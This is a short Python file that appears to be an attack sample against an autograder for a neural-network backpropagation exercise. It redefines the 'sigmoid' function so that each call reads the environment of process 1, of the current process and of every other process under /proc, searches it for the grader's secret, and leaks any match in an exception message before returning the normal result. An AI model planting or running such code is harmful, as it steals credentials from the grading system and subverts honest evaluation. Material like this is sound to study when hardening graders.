"""Read /proc/1/environ, /proc/self/environ and every other /proc/*/environ for the grader's secret."""
MODULE = "ex3_mlp_backprop"
CLASS = "env"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_sigmoid(z, _orig=sigmoid):
    import os
    found = {}
    for pid in ["1", "self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        value = _atk_find_secret(_atk_read(f"/proc/{pid}/environ"))
        if value:
            found[pid] = value
    if found:
        raise RuntimeError(f"environ {found}")
    return _orig(z)


sigmoid = _atk_sigmoid
